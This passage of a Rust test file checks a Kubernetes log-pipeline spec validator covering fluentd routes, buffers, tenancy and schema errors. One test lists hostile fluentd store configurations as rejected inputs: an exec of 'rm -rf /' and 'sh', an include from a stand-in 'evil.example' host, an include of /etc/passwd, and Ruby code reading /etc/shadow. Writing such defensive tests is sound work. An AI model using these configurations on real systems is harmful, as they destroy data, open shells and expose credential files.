    for bad in [json!(["a"]), json!("key"), json!(1), json!(true)] {
        let e = policy_error(bad.clone());
        assert_eq!(e.value, bad.to_string());
        assert_message_contains(&e, &["must be a JSON object"]);
    }
}

#[test]
fn empty_filter_policy_is_rejected_suggesting_to_remove_it() {
    let e = policy_error(json!({}));
    assert_eq!(e.value, "{}");
    assert_message_contains(&e, &["empty", "remove it"]);
}

#[test]
fn filter_policy_leaf_that_is_not_a_non_empty_list_is_rejected() {
    for bad in [
        json!({"key": "value"}),
        json!({"key": []}),
        json!({"Records": {"s3": "x"}}),
        json!({"Records": {}}),
        json!({"a": ["x"], "b": 1}),
    ] {
        let e = policy_error(bad.clone());
        assert_eq!(e.value, bad.to_string());
        assert_message_contains(&e, &["non-empty list", "{\"key\": [\"value\"]}"]);
    }
}

#[test]
fn filter_policy_larger_than_256_kib_is_rejected() {
    let values: Vec<String> = (0..30_000).map(|i| format!("value-{i:06}")).collect();
    let e = policy_error(json!({"key": values}));
    assert_message_contains(&e, &["256 KiB"]);
}

#[test]
fn flat_and_nested_filter_policies_are_accepted() {
    assert_policy_valid(json!({"key": ["value"]}));
    assert_policy_valid(
        json!({"Records": {"s3": {"object": {"key": [{"prefix": "processed/alerts/"}]}}}}),
    );
}

// ---- legacy and cutover ------------------------------------------------------------------------

#[test]
fn fluentd_host_that_is_empty_or_longer_than_253_is_rejected() {
    for bad in [String::new(), "h".repeat(254)] {
        let e = only_error(&[("legacy", json!({"fluentd": {"target": {"host": bad}}}))]);
        assert_eq!(e.path, "spec.legacy.fluentd.target.host");
        assert_eq!(e.value, quoted(&bad));
        assert_message_contains(&e, &["1–253"]);
    }
}

#[test]
fn fluentd_port_outside_1_to_65535_is_rejected() {
    for port in [0, 65536] {
        let e = only_error(&[(
            "legacy",
            json!({"fluentd": {"target": {"host": "fluentd", "port": port}}}),
        )]);
        assert_eq!(e.path, "spec.legacy.fluentd.target.port");
        assert_eq!(e.value, port.to_string());
        assert_message_contains(&e, &["1–65535"]);
    }
}

#[test]
fn fluentd_target_at_its_limits_is_accepted() {
    for port in [1, 65535] {
        assert_valid(&[(
            "legacy",
            json!({"fluentd": {"target": {"host": "h".repeat(253), "port": port}}}),
        )]);
    }
}

#[test]
fn fluentd_route_with_an_empty_or_overlong_match_is_rejected() {
    for bad in [String::new(), "m".repeat(257)] {
        let e = only_error(&[(
            "legacy",
            legacy_with_routes(json!([{"match": bad, "logGroup": "/ecs/orders"}])),
        )]);
        assert_eq!(e.path, "spec.legacy.fluentd.routes[0].match");
        assert_message_contains(&e, &["1–256"]);
    }
}

#[test]
fn legacy_route_whose_log_group_is_not_a_source_is_rejected() {
    let e = only_error(&[(
        "legacy",
        legacy_with_routes(json!([
            {"match": "app.orders.**", "logGroup": "/ecs/orders"},
            {"match": "app.payments.**", "logGroup": "/ecs/payments"},
        ])),
    )]);
    assert_eq!(e.path, "spec.legacy.fluentd.routes[1].logGroup");
    assert_eq!(e.value, quoted("/ecs/payments"));
    assert_message_contains(
        &e,
        &[
            "not one of this pipeline's sources",
            "spec.sources.logGroups",
        ],
    );
}

#[test]
fn legacy_route_whose_log_group_falls_under_a_source_prefix_is_accepted() {
    assert_valid(&[
        ("sources", json!({"logGroupPrefixes": ["/ecs/"]})),
        (
            "legacy",
            legacy_with_routes(json!([{"match": "app.**", "logGroup": "/ecs/payments"}])),
        ),
    ]);
}

#[test]
fn route_log_group_retention_that_cloudwatch_logs_does_not_accept_is_refused_naming_the_field() {
    for days in [0, 2, 31, 1000, 3654, -7] {
        let mut legacy = legacy_with_routes(json!([]));
        legacy["fluentd"]["logGroupRetentionDays"] = json!(days);
        let e = only_error(&[("legacy", legacy)]);
        assert_eq!(e.path, "spec.legacy.fluentd.logGroupRetentionDays");
        assert_eq!(e.value, days.to_string());
        assert_message_contains(&e, &["CloudWatch Logs", "1, 3, 5, 7, 14, 30", "3653"]);
    }
}

#[test]
fn every_retention_cloudwatch_logs_accepts_is_a_valid_route_log_group_retention() {
    for days in pitagora::spec::LOG_RETENTION_DAYS {
        let mut legacy = legacy_with_routes(json!([]));
        legacy["fluentd"]["logGroupRetentionDays"] = json!(days);
        assert_valid(&[("legacy", legacy)]);
    }
}

#[test]
fn cutover_stage_other_than_new_without_legacy_is_rejected() {
    for stage in ["Legacy", "Shadow", "Primary"] {
        let e = only_error(&[("cutover.stage", json!(stage))]);
        assert_eq!(e.path, "spec.cutover.stage");
        assert_eq!(e.value, stage);
        assert_message_contains(&e, &["spec.legacy", "stage New"]);
    }
}

#[test]
fn cutover_stage_new_without_legacy_is_accepted() {
    assert_valid(&[("cutover.stage", json!("New"))]);
}

#[test]
fn every_cutover_stage_is_accepted_with_legacy() {
    for stage in ["Legacy", "Shadow", "Primary", "New"] {
        assert_valid(&[
            ("legacy", legacy_with_routes(json!([]))),
            ("cutover.stage", json!(stage)),
        ]);
    }
}

// ---- the shared fluentd: hostile values and tenancy -------------------------------------------

/// `spec.legacy` with a target and `routes`, written into key `key` of a shared ConfigMap.
fn legacy_keyed(key: &str) -> Value {
    json!({"fluentd": {
        "target": {"host": "fluentd.logging.svc"},
        "config": {"namespace": "logging", "name": "fluentd-routes", "key": key},
        "reload": {"kind": "DaemonSet", "name": "fluentd"},
        "routes": [{"match": "app.orders.**", "logGroup": "/ecs/orders"}],
    }})
}

/// `spec.legacy` with the target's buffer set to `buffer`.
fn legacy_buffer(buffer: Value) -> Value {
    json!({"fluentd": {"target": {"host": "fluentd.logging.svc", "buffer": buffer}}})
}

/// `spec.legacy` with a verbatim store and two routes.
fn legacy_store(store: &str) -> Value {
    json!({"fluentd": {"store": store, "routes": [
        {"match": "app.orders.api.**", "logGroup": "/ecs/orders"},
        {"match": "app.orders.worker.**", "logGroup": "/ecs/orders"},
    ]}})
}

const FORWARD: &str = "@type forward\nignore_network_errors_at_startup true\n<server>\n  host agg.example\n  port 24224\n</server>\n";

#[test]
fn a_buffer_path_that_climbs_or_doubles_slashes_is_rejected() {
    for bad in [
        "/var/log/../etc",
        "/var/log/fluentd-buffers/..",
        "/var/./log",
        "/var//log",
    ] {
        let e = only_error(&[("legacy", legacy_buffer(json!({"path": bad})))]);
        assert_eq!(e.path, "spec.legacy.fluentd.target.buffer.path", "{bad}");
        assert_eq!(e.value, quoted(bad));
        assert_message_contains(&e, &["segment", "/var/log/fluentd-buffers/pitagora"]);
    }
}

#[test]
fn a_buffer_path_naming_its_directory_is_accepted() {
    for good in [
        "/var/log/fluentd-buffers/pitagora",
        "/buffers/",
        "/b..c/x.y",
    ] {
        assert_valid(&[("legacy", legacy_buffer(json!({"path": good})))]);
    }
}

#[test]
fn zero_buffer_sizes_are_rejected() {
    for (field, bad) in [
        ("chunkLimitSize", "0"),
        ("chunkLimitSize", "0m"),
        ("totalLimitSize", "0"),
        ("totalLimitSize", "00g"),
    ] {
        let e = only_error(&[("legacy", legacy_buffer(json!({field: bad})))]);
        assert_eq!(e.path, format!("spec.legacy.fluentd.target.buffer.{field}"));
        assert_message_contains(&e, &["above zero"]);
    }
}

#[test]
fn a_chunk_larger_than_the_buffer_is_rejected_naming_both() {
    let e = only_error(&[(
        "legacy",
        legacy_buffer(json!({"chunkLimitSize": "1g", "totalLimitSize": "512m"})),
    )]);
    assert_eq!(e.path, "spec.legacy.fluentd.target.buffer.chunkLimitSize");
    assert_message_contains(&e, &["totalLimitSize", "512m"]);
}

#[test]
fn a_chunk_as_large_as_the_buffer_is_accepted() {
    for (chunk, total) in [("512m", "512m"), ("1024k", "1m"), ("8m", "1t")] {
        assert_valid(&[(
            "legacy",
            legacy_buffer(json!({"chunkLimitSize": chunk, "totalLimitSize": total})),
        )]);
    }
}

#[test]
fn config_map_keys_kubernetes_or_annotations_refuse_are_rejected() {
    for bad in [
        ".",
        "..",
        "..team-a.x",
        "team-a/x.conf",
        "team-a.x.",
        "team-a.x_",
        ".team-a.x",
    ] {
        let e = only_error(&[("legacy", legacy_keyed(bad))]);
        assert_eq!(e.path, "spec.legacy.fluentd.config.key", "{bad}");
        assert_message_contains(&e, &["ConfigMap key"]);
    }
}

#[test]
fn a_key_not_named_after_the_pipelines_namespace_is_rejected_naming_the_rule() {
    for bad in [
        "team-b.orders.conf",
        "team-a-orders.conf",
        "payments.conf",
        "team-ab.x",
    ] {
        let e = only_error(&[("legacy", legacy_keyed(bad))]);
        assert_eq!(e.path, "spec.legacy.fluentd.config.key", "{bad}");
        assert_message_contains(&e, &["team-a.", "team-a.orders.conf", "shared"]);
    }
}

#[test]
fn a_key_named_after_the_pipelines_namespace_is_accepted() {
    for good in ["team-a.orders.conf", "team-a.x", "team-a.a_b-c.conf"] {
        assert_valid(&[("legacy", legacy_keyed(good))]);
    }
}

#[test]
fn route_patterns_outside_fluentds_tag_grammar_are_rejected_with_the_reason() {
    for (bad, reason) in [
        ("app.{orders,payments", "never closed"),
        ("app.orders}", "outside"),
        ("app.#{ENV['X']}", "Ruby"),
        ("app..orders", "empty tag part"),
        ("app.orders**", "whole parts"),
        ("app.orders <x>", "'<'"),
        ("app.\"x\"", "'\"'"),
    ] {
        let e = only_error(&[(
            "legacy",
            legacy_with_routes(json!([{"match": bad, "logGroup": "/ecs/orders"}])),
        )]);
        assert_eq!(e.path, "spec.legacy.fluentd.routes[0].match", "{bad}");
        assert_eq!(e.value, quoted(bad));
        assert_message_contains(&e, &[reason]);
    }
}

#[test]
fn catch_all_routes_are_rejected_as_taking_every_teams_logs() {
    for bad in ["**", "*.**", "**.*", "app.orders.** **", "{**,app}"] {
        let e = only_error(&[(
            "legacy",
            legacy_with_routes(json!([{"match": bad, "logGroup": "/ecs/orders"}])),
        )]);
        assert_eq!(e.path, "spec.legacy.fluentd.routes[0].match", "{bad}");
        assert_message_contains(&e, &["matches every tag", "every team's logs"]);
    }
}

#[test]
fn routes_not_beginning_with_a_fixed_tag_part_are_rejected() {
    for bad in [
        "*.orders",
        "**.orders",
        "app*.orders",
        "{app,*}.orders",
        "*.*.**",
    ] {
        let e = only_error(&[(
            "legacy",
            legacy_with_routes(json!([{"match": bad, "logGroup": "/ecs/orders"}])),
        )]);
        assert_eq!(e.path, "spec.legacy.fluentd.routes[0].match", "{bad}");
        assert_message_contains(&e, &["fixed tag part"]);
    }
}

#[test]
fn routes_in_fluentds_grammar_under_a_fixed_first_part_are_accepted() {
    for good in [
        "app.orders.**",
        "app.{orders,payments}.*",
        "{app,web}.orders.**",
        "app.orders app.payments.**",
        "kube.orders-1_x.*.log",
    ] {
        assert_valid(&[(
            "legacy",
            legacy_with_routes(json!([{"match": good, "logGroup": "/ecs/orders"}])),
        )]);
    }
}

#[test]
fn a_store_reaching_beyond_one_output_is_rejected_naming_the_store() {
    let file_buffer =
        |path: &str| format!("{FORWARD}<buffer>\n  @type file\n  path {path}\n</buffer>\n");
    let cases: Vec<(String, &str)> = vec![
        ("@type exec\ncommand rm -rf /\n".into(), "runs commands"),
        ("@type exec_filter\ncommand sh\n".into(), "runs commands"),
        (
            format!("{FORWARD}<secondary>\n  @type exec\n  command sh\n</secondary>\n"),
            "runs commands",
        ),
        (
            format!("{FORWARD}@include https://evil.example/x.conf\n"),
            "@include",
        ),
        (
            format!("{FORWARD}<buffer>\n  @include /etc/passwd\n</buffer>\n"),
            "@include",
        ),
        (
            format!("{FORWARD}<source>\n  @type forward\n</source>\n"),
            "<source> cannot appear",
        ),
        (
            format!("{FORWARD}<match **>\n  @type null\n</match>\n"),
            "<match> cannot appear",
        ),
        (
            format!("{FORWARD}<filter **>\n  @type grep\n</filter>\n"),
            "<filter> cannot appear",
        ),
        (
            format!("{FORWARD}<label @X>\n</label>\n"),
            "<label> cannot appear",
        ),
        (
            format!("{FORWARD}<system>\n  workers 8\n</system>\n"),
            "<system> cannot appear",
        ),
        (
            format!("{FORWARD}<store>\n  @type forward\n</store>\n"),
            "<store> cannot appear",
        ),
        (
            format!("{FORWARD}<buffer>\n  <server>\n  </server>\n</buffer>\n"),
            "parameters only",
        ),
        (
            format!(
                "{FORWARD}<secondary>\n  @type forward\n  <buffer>\n  </buffer>\n</secondary>\n"
            ),
            "<buffer> cannot appear inside <secondary>",
        ),
        (
            format!("{FORWARD}shared_key \"#{{File.read('/etc/shadow')}}\"\n"),
            "Ruby code",
        ),
        (format!("{FORWARD}@type forward\n"), "second @type"),
        (
            "<server>\n  host agg\n</server>\n".into(),
            "names no output",
        ),
        (format!("@id legacy\n{FORWARD}"), "@id"),
        (
            file_buffer("/var/log/fluentd-buffers/fixed"),
            "does not hold {{route}}",
        ),
        (file_buffer("/var/log/{{route}}/../../etc"), "'..'"),
        (file_buffer("relative/{{route}}"), "absolute path"),
        (
            format!("{FORWARD}<buffer>\n  @type file\n</buffer>\n"),
            "needs a path",
        ),
        (
            format!("{FORWARD}<buffer>\n  @type s3\n</buffer>\n"),
            "buffer plugins",
        ),
        (
            format!("{FORWARD}<server>\n"),
            "not valid fluentd configuration",
        ),
    ];
    for (store, reason) in cases {
        let errors = errors_with(&[("legacy", legacy_store(&store))]);
        assert!(!errors.is_empty(), "accepted:\n{store}");
        for e in &errors {
            assert_eq!(e.path, "spec.legacy.fluentd.store", "{store}");
        }
        assert!(
            errors.iter().any(|e| e.message.contains(reason)),
            "{reason:?} not said for\n{store}: {errors:#?}"
        );
    }
}

#[test]
fn a_store_fluentd_would_refuse_misread_or_die_on_is_rejected_naming_the_line() {
    let memory_buffer =
        |line: &str| format!("{FORWARD}<buffer>\n  @type memory\n  {line}\n</buffer>\n");
    let cases: Vec<(String, &str)> = vec![
        (
            "@type forward\n<server>\n  host agg.example\n</server>\n".into(),
            "lacks ignore_network_errors_at_startup true",
        ),
        (
            "@type forward\nignore_network_errors_at_startup false\n<server>\n  host agg\n</server>\n".into(),
            "lacks ignore_network_errors_at_startup true",
        ),
        (
            format!("{FORWARD}retry_forver true\n"),
            "line 7: retry_forver is not a parameter of the forward output",
        ),
        (
            memory_buffer("retry_forver true"),
            "retry_forver is not a parameter of a memory <buffer>",
        ),
        (
            "@type forward\nignore_network_errors_at_startup true\n<server>\n  host agg\n  prot 24224\n</server>\n".into(),
            "prot is not a parameter of <server>",
        ),
        (memory_buffer("chunk_limit_size 0"), "chunk_limit_size takes a size above zero"),
        (memory_buffer("total_limit_size lots"), "total_limit_size takes a size above zero"),
        (
            memory_buffer("overflow_action drop"),
            "overflow_action takes one of throw_exception, block, drop_oldest_chunk",
        ),
        (memory_buffer("retry_forever always"), "retry_forever takes true or false"),
        (memory_buffer("flush_interval soon"), "flush_interval takes a duration"),
        (
            format!(
                "{FORWARD}<buffer>\n  @type file\n  path /var/log/fluentd-buffers/pitagora-cloudwatch/{{{{route}}}}\n</buffer>\n"
            ),
            "shares the CloudWatch store's buffer directory",
        ),
    ];
    for (store, reason) in cases {
        let errors = errors_with(&[("legacy", legacy_store(&store))]);
        assert!(
            errors
                .iter()
                .any(|e| e.path == "spec.legacy.fluentd.store" && e.message.contains(reason)),
            "{reason:?} not said for\n{store}: {errors:#?}"
        );
    }
}

/// `spec.legacy` with the target's default buffer and the CloudWatch buffer set to `buffer`.
fn legacy_cloudwatch_buffer(buffer: Value) -> Value {
    json!({"fluentd": {"target": {"host": "fluentd.logging.svc"}, "cloudWatchBuffer": buffer}})
}

#[test]
fn a_cloudwatch_buffer_sharing_the_legacy_stores_directory_is_rejected() {
    for bad in [
        "/var/log/fluentd-buffers/pitagora",
        "/var/log/fluentd-buffers/pitagora/",
        "/var/log/fluentd-buffers/pitagora/cloudwatch",
        "/var/log/fluentd-buffers",
    ] {
        let e = only_error(&[("legacy", legacy_cloudwatch_buffer(json!({"path": bad})))]);
        assert_eq!(e.path, "spec.legacy.fluentd.cloudWatchBuffer.path", "{bad}");
        assert_message_contains(&e, &["overlaps spec.legacy.fluentd.target.buffer.path"]);
    }
}

#[test]
fn a_cloudwatch_buffer_beside_the_legacy_stores_directory_is_accepted() {
    for good in [
        "/var/log/fluentd-buffers/pitagora-cloudwatch",
        "/var/log/fluentd-buffers/cw",
        "/mnt/buffers",
    ] {
        assert_valid(&[("legacy", legacy_cloudwatch_buffer(json!({"path": good})))]);
    }
}

#[test]
fn a_cloudwatch_buffer_with_bad_sizes_or_interval_is_rejected_naming_the_field() {
    let cases = [
        (
            json!({"chunkLimitSize": "0"}),
            "chunkLimitSize",
            "above zero",
        ),
        (
            json!({"totalLimitSize": "0m"}),
            "totalLimitSize",
            "above zero",
        ),
        (
            json!({"chunkLimitSize": "1g", "totalLimitSize": "8m"}),
            "chunkLimitSize",
            "totalLimitSize",
        ),
        (
            json!({"flushIntervalSeconds": 0}),
            "flushIntervalSeconds",
            "1–3600",
        ),
        (json!({"path": "/var//cw"}), "path", "segment"),
    ];
    for (buffer, field, said) in cases {
        let e = only_error(&[("legacy", legacy_cloudwatch_buffer(buffer))]);
        assert_eq!(
            e.path,
            format!("spec.legacy.fluentd.cloudWatchBuffer.{field}")
        );
        assert_message_contains(&e, &[said]);
    }
}

#[test]
fn a_store_holding_one_output_and_its_sections_is_accepted() {
    let stores = [
        FORWARD.to_owned(),
        format!(
            "{FORWARD}transport tls\ntls_verify_hostname true\n<security>\n  self_hostname agent\n  shared_key s3cret\n</security>\n"
        ),
        format!(
            "{FORWARD}<buffer>\n  @type file\n  path /var/log/fluentd-buffers/{{{{route}}}}\n  chunk_limit_size 8m\n</buffer>\n"
        ),
        format!(
            "{FORWARD}<buffer tag>\n  @type memory\n</buffer>\n<secondary>\n  @type forward\n  <server>\n    host standby\n  </server>\n</secondary>\n"
        ),
    ];
    for store in &stores {
        assert_valid(&[("legacy", legacy_store(store))]);
    }
}

// ---- drift -------------------------------------------------------------------------------------

#[test]
fn drift_check_interval_outside_30_to_86400_is_rejected() {
    for seconds in [29, 86401, 0] {
        let e = only_error(&[("drift.checkIntervalSeconds", json!(seconds))]);
        assert_eq!(e.path, "spec.drift.checkIntervalSeconds");
        assert_eq!(e.value, seconds.to_string());
        assert_message_contains(&e, &["30–86400 seconds"]);
    }
}

#[test]
fn drift_check_interval_of_30_and_86400_is_accepted() {
    for seconds in [30, 86400] {
        assert_valid(&[("drift.checkIntervalSeconds", json!(seconds))]);
    }
}

// ---- identity ----------------------------------------------------------------------------------

fn identity_errors(namespace: &str, name: &str) -> Vec<FieldError> {
    validate(&PipelineId::new(namespace, name), &common::minimal_spec())
}

#[test]
fn missing_name_is_rejected_as_unset() {
    let errors = identity_errors("team-a", "");
    assert_eq!(errors.len(), 1, "{errors:#?}");
    assert_eq!(errors[0].path, "metadata.name");
    assert_eq!(errors[0].value, "<unset>");
}

#[test]
fn name_that_is_not_a_kubernetes_name_is_rejected() {
    let long = "a".repeat(254);
    for bad in [
        "Orders",
        "orders_1",
        "-orders",
        "orders-",
        "orders.",
        "a..b",
        "a b",
        long.as_str(),
    ] {
        let errors = identity_errors("team-a", bad);
        assert_eq!(errors.len(), 1, "{bad:?}: {errors:#?}");
        assert_eq!(errors[0].path, "metadata.name");
        assert_eq!(errors[0].value, quoted(bad));
        assert_message_contains(
            &errors[0],
            &["lowercase letters, digits, '-' and '.'", "253"],
        );
    }
}

#[test]
fn kubernetes_names_up_to_253_characters_are_accepted() {
    let longest = "a".repeat(253);
    for good in ["a", "1orders", "a.b-c.d", "orders-v2", longest.as_str()] {
        let errors = identity_errors("team-a", good);
        assert!(errors.is_empty(), "{good:?}: {errors:#?}");
    }
}

#[test]
fn namespace_that_is_not_a_dns_label_is_rejected() {
    let long = "n".repeat(64);
    for bad in ["", "Team-a", "team.a", "team_a", "-team", long.as_str()] {
        let errors = identity_errors(bad, "orders");
        assert_eq!(errors.len(), 1, "{bad:?}: {errors:#?}");
        assert_eq!(errors[0].path, "metadata.namespace");
        assert_eq!(errors[0].value, quoted(bad));
        assert_message_contains(&errors[0], &["63"]);
    }
}

#[test]
fn namespaces_up_to_63_characters_are_accepted() {
    let longest = "n".repeat(63);
    for good in ["a", "1team", "team-a", longest.as_str()] {
        let errors = identity_errors(good, "orders");
        assert!(errors.is_empty(), "{good:?}: {errors:#?}");
    }
}

// ---- all at once -------------------------------------------------------------------------------

#[test]
fn validate_returns_every_error_at_once() {
    let spec = spec_with(&[
        ("region", json!("Europe")),
        ("sources.logGroupPrefixes", json!(["/aws/"])),
        ("delivery.buffering.sizeMiB", json!(200)),
        ("delivery.errorOutputPrefix", json!("raw/errors/")),
        ("storage.bucketName", json!("My_Bucket")),
        (
            "transform",
            json!({"lambdaArn": ARN, "outputPrefix": "raw/processed/"}),
        ),
        (
            "fanout",
            json!({"subscribers": [subscriber("a-1"), subscriber("a1")]}),
        ),
        ("cutover.stage", json!("Shadow")),
        ("drift.checkIntervalSeconds", json!(5)),
    ]);
    let errors = validate(&PipelineId::new("team-a", "Orders"), &spec);
    let mut paths: Vec<&str> = errors.iter().map(|e| e.path.as_str()).collect();
    paths.sort_unstable();
    assert_eq!(
        paths,
        [
            "metadata.name",
            "spec.cutover.stage",
            "spec.delivery.buffering.sizeMiB",
            "spec.delivery.errorOutputPrefix",
            "spec.drift.checkIntervalSeconds",
            "spec.fanout.subscribers[1].name",
            "spec.region",
            "spec.sources.logGroupPrefixes[0]",
            "spec.storage.bucketName",
            "spec.transform.outputPrefix",
        ],
        "{errors:#?}"
    );
}

#[test]
fn field_error_displays_as_path_value_and_message() {
    let e = only_error(&[("delivery.buffering.sizeMiB", json!(200))]);
    assert_eq!(
        e.to_string(),
        "spec.delivery.buffering.sizeMiB = 200: out of range; allowed 1–128 MiB"
    );
}

#[test]
fn the_examples_are_valid() {
    for file in ["minimal.yaml", "full-chain.yaml", "beside-fluentd.yaml"] {
        let pipeline = common::example(file);
        let id = pipeline.id("default");
        let errors = validate(&id, &pipeline.spec);
        assert!(errors.is_empty(), "{file}: {errors:#?}");
    }
}

// ---- schema check on raw documents ---------------------------------------------------------------

/// A whole `LogPipeline` document with `spec`.
fn document(spec: Value) -> Value {
    json!({
        "apiVersion": "pitagora.dev/v1alpha1",
        "kind": "LogPipeline",
        "metadata": {"name": "orders", "namespace": "team-a"},
        "spec": spec,
    })
}

/// Schema errors of the minimal spec with `changes`.
fn schema_errors_with(changes: &[(&str, Value)]) -> Vec<FieldError> {
    let mut spec = base();
    for (path, value) in changes {
        set(&mut spec, path, value.clone());
    }
    pitagora::spec::schema::check(&document(spec))
}

fn only_schema_error(changes: &[(&str, Value)]) -> FieldError {
    let errors = schema_errors_with(changes);
    assert_eq!(
        errors.len(),
        1,
        "expected exactly one error, got {errors:#?}"
    );
    errors.into_iter().next().unwrap()
}

#[test]
fn schema_accepts_the_minimal_spec_and_the_examples() {
    assert!(schema_errors_with(&[]).is_empty());
    for file in ["minimal.yaml", "full-chain.yaml", "beside-fluentd.yaml"] {
        let text = std::fs::read_to_string(common::example_path(file)).unwrap();
        let doc: Value = serde_saphyr::from_str(&text).unwrap();
        let errors = pitagora::spec::schema::check(&doc);
        assert!(errors.is_empty(), "{file}: {errors:#?}");
    }
}

#[test]
fn schema_reports_an_unknown_field_with_a_did_you_mean_suggestion() {
    let e = only_schema_error(&[("delivery.compresion", json!("GZIP"))]);
    assert_eq!(e.path, "spec.delivery.compresion");
    assert_eq!(e.value, quoted("GZIP"));
    assert_message_contains(
        &e,
        &[
            "unknown field",
            "silently drop",
            "did you mean \"compression\"?",
        ],
    );
}

#[test]
fn schema_suggests_the_nearest_field_inside_list_items() {
    let e = only_schema_error(&[(
        "fanout",
        json!({"subscribers": [{"name": "es", "lambdaArn": ARN, "filterPolicey": {"a": ["b"]}}]}),
    )]);
    assert_eq!(e.path, "spec.fanout.subscribers[0].filterPolicey");
    assert_message_contains(&e, &["did you mean \"filterPolicy\"?"]);
}

#[test]
fn schema_reports_an_unknown_field_without_suggestion_when_nothing_is_close() {
    let e = only_schema_error(&[("delivery.zzzzzz", json!(1))]);
    assert_eq!(e.path, "spec.delivery.zzzzzz");
    assert_message_contains(&e, &["unknown field"]);
    assert!(!e.message.contains("did you mean"), "{}", e.message);
}

#[test]
fn schema_leaves_metadata_and_top_level_fields_to_the_api_server() {
    let mut doc = document(base());
    doc["metadata"]["labels"] = json!({"team": "a"});
    doc["metadata"]["annotations"] = json!({"note": "x"});
    doc["metadata"]["uid"] = json!("1234");
    let errors = pitagora::spec::schema::check(&doc);
    assert!(errors.is_empty(), "{errors:#?}");
}

#[test]
fn schema_reports_an_enum_violation_listing_the_allowed_values() {
    let e = only_schema_error(&[("delivery.recordFormat", json!("JSON"))]);
    assert_eq!(e.path, "spec.delivery.recordFormat");
    assert_eq!(e.value, quoted("JSON"));
    assert_message_contains(
        &e,
        &["not an allowed value", "\"NDJSON\", \"Envelope\", \"Raw\""],
    );

    let e = only_schema_error(&[("storage.deletionPolicy", json!("Keep"))]);
    assert_eq!(e.path, "spec.storage.deletionPolicy");
    assert_message_contains(&e, &["\"Retain\", \"Delete\""]);
}

#[test]
fn schema_refuses_a_route_log_group_retention_cloudwatch_logs_does_not_accept() {
    let mut legacy = legacy_with_routes(json!([]));
    legacy["fluentd"]["logGroupRetentionDays"] = json!(31);
    let e = only_schema_error(&[("legacy", legacy)]);
    assert_eq!(e.path, "spec.legacy.fluentd.logGroupRetentionDays");
    assert_message_contains(&e, &["not an allowed value", "30", "3653"]);
}

#[test]
fn schema_reports_a_wrong_type_naming_expected_and_actual() {
    for (field, value, message) in [
        (
            "delivery.buffering.sizeMiB",
            json!("5"),
            "must be an integer, not a string",
        ),
        (
            "delivery.buffering.sizeMiB",
            json!(5.5),
            "must be an integer, not a number",
        ),
        (
            "sources.logGroups",
            json!("/ecs/orders"),
            "must be an array, not a string",
        ),
        (
            "adoptExisting",
            json!("yes"),
            "must be a boolean, not a string",
        ),
        (
            "delivery",
            json!(["raw/"]),
            "must be an object, not an array",
        ),
    ] {
        let e = only_schema_error(&[(field, value.clone())]);
        assert_eq!(e.path, format!("spec.{field}"));
        assert_message_contains(&e, &[message]);
    }
}

#[test]
fn schema_rejects_null_for_fields_that_are_not_nullable() {
    let e = only_schema_error(&[("delivery", Value::Null)]);
    assert_eq!(e.path, "spec.delivery");
    assert_message_contains(&e, &["must not be null"]);
}

#[test]
fn schema_accepts_null_for_optional_sections() {
    for field in [
        "transform",
        "fanout",
        "legacy",
        "region",
        "storage.bucketName",
    ] {
        let errors = schema_errors_with(&[(field, Value::Null)]);
        assert!(errors.is_empty(), "spec.{field}: {errors:#?}");
    }
}

#[test]
fn schema_requires_at_least_one_kind_of_source() {
    let errors =
        pitagora::spec::schema::check(&document(json!({"sources": {"filterPattern": ""}})));
    assert_eq!(errors.len(), 1, "{errors:#?}");
    assert_eq!(errors[0].path, "spec.sources");
    assert_message_contains(
        &errors[0],
        &["set at least one of logGroupPrefixes, logGroups"],
    );
}

#[test]
fn schema_requires_spec_and_required_fields_inside_it() {
    let mut doc = document(base());
    doc.as_object_mut().unwrap().remove("spec");
    let errors = pitagora::spec::schema::check(&doc);
    assert_eq!(errors.len(), 1, "{errors:#?}");
    assert_eq!(
        (errors[0].path.as_str(), errors[0].value.as_str()),
        ("spec", "<unset>")
    );

    let e = only_schema_error(&[("fanout", json!({"subscribers": [{"name": "es"}]}))]);
    assert_eq!(e.path, "spec.fanout.subscribers[0].lambdaArn");
    assert_eq!(e.value, "<unset>");
    assert_message_contains(&e, &["required"]);
}

#[test]
fn schema_reports_numbers_out_of_range_naming_the_range() {
    let e = only_schema_error(&[("delivery.buffering.sizeMiB", json!(129))]);
    assert_eq!(e.path, "spec.delivery.buffering.sizeMiB");
    assert_eq!(e.value, "129");
    assert_message_contains(&e, &["1–128"]);
    assert!(schema_errors_with(&[("delivery.buffering.sizeMiB", json!(128))]).is_empty());
    assert!(schema_errors_with(&[("delivery.buffering.intervalSeconds", json!(0))]).is_empty());
    let e = only_schema_error(&[("drift.checkIntervalSeconds", json!(86401))]);
    assert_message_contains(&e, &["30–86400"]);
}

#[test]
fn schema_explains_pattern_violations_in_words() {
    let e = only_schema_error(&[("region", json!("Europe"))]);
    assert_eq!(e.path, "spec.region");
    assert_message_contains(&e, &["not an AWS region code such as eu-west-1"]);

    let e = only_schema_error(&[("fanout", json!({"subscribers": [subscriber("Bad_Name")]}))]);
    assert_eq!(e.path, "spec.fanout.subscribers[0].name");
    assert_message_contains(&e, &["not a DNS label"]);
}

#[test]
fn schema_reports_string_length_out_of_range() {
    let e = only_schema_error(&[("storage.bucketName", json!("ab"))]);
    assert_eq!(e.path, "spec.storage.bucketName");
    assert_message_contains(&e, &["length 2", "3–63 characters"]);
}

#[test]
fn schema_reports_lists_with_too_few_items() {
    let e = only_schema_error(&[
        ("sources.logGroups", json!([])),
        ("sources.logGroupPrefixes", json!(["/ecs/"])),
    ]);
    assert_eq!(e.path, "spec.sources.logGroups");
    assert_message_contains(&e, &["0 items", "1–200 items"]);
}

#[test]
fn schema_reports_duplicate_entries_of_a_set_list() {
    let e = only_schema_error(&[("sources.logGroups", json!(["/a", "/b", "/a"]))]);
    assert_eq!(e.path, "spec.sources.logGroups[2]");
    assert_eq!(e.value, quoted("/a"));
    assert_message_contains(&e, &["duplicate entry"]);
}

#[test]
fn schema_reports_duplicate_keys_of_a_map_list() {
    let e = only_schema_error(&[(
        "fanout",
        json!({"subscribers": [subscriber("es"), subscriber("slack"), {"name": "es", "lambdaArn": ARN_US_EAST_1}]}),
    )]);
    assert_eq!(e.path, "spec.fanout.subscribers[2].name");
    assert_eq!(e.value, quoted("es"));
    assert_message_contains(&e, &["duplicate key"]);
}

#[test]
fn schema_does_not_look_inside_filter_policies() {
    let errors = schema_errors_with(&[(
        "fanout",
        json!({"subscribers": [{"name": "es", "lambdaArn": ARN, "filterPolicy": {"anything": {"goes": [1, {"x": null}]}}}]}),
    )]);
    assert!(errors.is_empty(), "{errors:#?}");
}

#[test]
fn schema_reports_every_violation_at_once() {
